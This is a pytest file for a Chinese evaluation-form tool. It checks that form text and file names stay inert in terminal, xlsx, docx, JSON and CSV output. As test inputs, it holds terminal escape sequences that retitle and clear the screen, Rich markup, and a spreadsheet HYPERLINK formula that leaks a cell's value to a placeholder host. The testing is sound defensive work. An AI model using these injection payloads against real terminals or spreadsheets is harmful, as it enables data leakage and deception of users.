"""Issue 13 item 3: text from forms is inert everywhere it goes: terminal, xlsx, docx, JSON, CSV."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import openpyxl
import pytest

from jixiao import inert
from jixiao.export import get_exporter
from jixiao.ingest.recognize import read_bytes

from .conftest import jixiao_cmd
from .forms import Form

MARKUP = "[/x]培训[bold]"
HOSTILE = "干部\x0b培训\x00项目\x1b[31m红\x1b]0;标题\x07\x7f\ud800"
FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"点击")'


def _run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*jixiao_cmd(), *args], capture_output=True, text=True, cwd=cwd, timeout=300)


def test_rich_markup_in_file_name_form_text_and_option_values_prints_as_written(tmp_path: Path) -> None:
    (tmp_path / "[").mkdir()
    form = tmp_path / "[" / "x]培训[bold].txt"  # the path holds "[/x]培训[bold]"
    form.write_text(Form(name=MARKUP, total_score="90").text(), encoding="utf-8")
    proc = _run("check", str(form))
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert MARKUP in proc.stdout and "x]培训[bold].txt" in proc.stdout  # the project and the file, as written
    proc = _run("parse", str(form))
    assert proc.returncode == 0 and MARKUP in proc.stdout, proc.stderr
    proc = _run("check", str(tmp_path / "[/y]missing.txt"))
    assert proc.returncode == 2 and "[/y]missing.txt" in proc.stderr and "Traceback" not in proc.stderr
    proc = _run("check", str(form), "--policy", "[/z]")
    assert proc.returncode == 64 and "[/z]" in proc.stderr and "Traceback" not in proc.stderr
    proc = _run("check", str(form), "--severity", "[/z]")
    assert proc.returncode == 64 and "[/z]" in proc.stderr and "Traceback" not in proc.stderr


def test_terminal_escapes_in_form_text_never_reach_the_terminal(tmp_path: Path) -> None:
    form = tmp_path / "esc.txt"
    form.write_text(Form(name="培训\x1b]0;被改的标题\x07\x1b[2J项目").text(), encoding="utf-8")
    proc = _run("check", str(form))
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
    assert "培训" in proc.stdout and "项目" in proc.stdout


def _hostile_form():
    (ev,) = read_bytes(Form().text().encode(), "hostile.txt").evaluations
    ev.project.name = HOSTILE
    ev.goals.expected = FORMULA
    ev.indicators[0].name = "\x0c第一\x0b第二\x00"
    return ev


@pytest.mark.parametrize("fmt", ["xlsx", "docx", "json"])
def test_control_characters_do_not_stop_any_writer(fmt: str, tmp_path: Path) -> None:
    path = tmp_path / f"out.{fmt}"
    get_exporter(fmt).write([(_hostile_form(), path)], None)
    if fmt == "json":
        data = json.loads(path.read_text(encoding="utf-8"))
        assert data["project"]["name"] == "干部\n培训项目红\ufffd"
    elif fmt == "xlsx":
        ws = openpyxl.load_workbook(path).worksheets[0]
        texts = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
        assert "干部\n培训项目红\ufffd" in texts
        assert texts[FORMULA].data_type == "s"  # the form's text, not a live formula


def test_inert_rules() -> None:
    assert inert.text("a\x0bb\x00c\x1b[1;31md\x1b]2;t\x07e") == "a\nbcde"
    assert inert.console("[/x]") == "\\[/x]"
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert inert.csv_cell(text).startswith("'")
    assert inert.csv_cell("正常文字") == "正常文字"


def test_summary_and_findings_write_formula_like_text_as_text(tmp_path: Path) -> None:
    db = tmp_path / "s.db"
    form = tmp_path / "f.txt"
    form.write_text(Form(name=FORMULA, total_score="90").text(), encoding="utf-8")
    assert _run("import", str(form), "--db", str(db)).returncode == 0
    proc = _run("findings", "--db", str(db), "--format", "csv")
    assert proc.returncode == 0
    rows = list(csv.reader(io.StringIO(proc.stdout.removeprefix("\ufeff"))))
    projects = {r[rows[0].index("项目")] for r in rows[1:]}
    assert projects == {"'" + FORMULA}
    out = tmp_path / "f.xlsx"
    assert _run("findings", "--db", str(db), "--format", "xlsx", "-o", str(out)).returncode == 0
    cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    out = tmp_path / "s.xlsx"
    assert _run("summary", "--db", str(db), "--by", "unit", "--format", "xlsx", "-o", str(out)).returncode == 0


def test_terminal_escapes_in_file_names_never_reach_the_terminal(tmp_path: Path) -> None:
    # A file name retitles and clears the reviewer's terminal when printed raw: every line that names
    # a file (outputs named after it, a list's note, a filled copy, a store's filter) prints it inert.
    name = "表\x1b]0;被改的标题\x07\x1b[2J[bold]"
    form = tmp_path / f"{name}.txt"
    form.write_text(Form(name=f"培训{name}").text(), encoding="utf-8")
    listing = tmp_path / f"清单{name}.txt"
    seed = Path(__file__).parent.parent / "examples"
    listing.write_bytes(next(seed.glob("004_*")).read_bytes())
    single = tmp_path / f"单表{name}.xlsx"
    assert _run("export", str(form), "-o", str(tmp_path), "-f", "xlsx").returncode == 0
    (written,) = [p for p in tmp_path.glob("*.xlsx") if p.name.startswith("表")]
    written.rename(single)
    runs = [_run("export", str(form), str(listing), "-o", str(tmp_path / "out"), "-f", "json"),
            _run("fill", str(single)),
            _run("report", str(form), "-o", str(tmp_path / f"报告{name}.html")),
            _run("summary", str(form), "--format", "csv", "-o", str(tmp_path / f"汇总{name}.csv")),
            _run("summary", "--db", str(tmp_path / "empty.db"), "--department", name)]
    for proc in runs:
        shown = proc.stdout + proc.stderr
        assert "Traceback" not in shown and "\x1b" not in shown and "\x07" not in shown, (proc.args, shown)
    assert "被改的标题" in runs[0].stdout and "[bold]" in runs[1].stdout  # the name shown, only inert
    out_names = [p.name for p in (tmp_path / "out").iterdir()]
    assert out_names and not any("\x1b" in n or "\x07" in n for n in out_names)  # nor in the files it writes
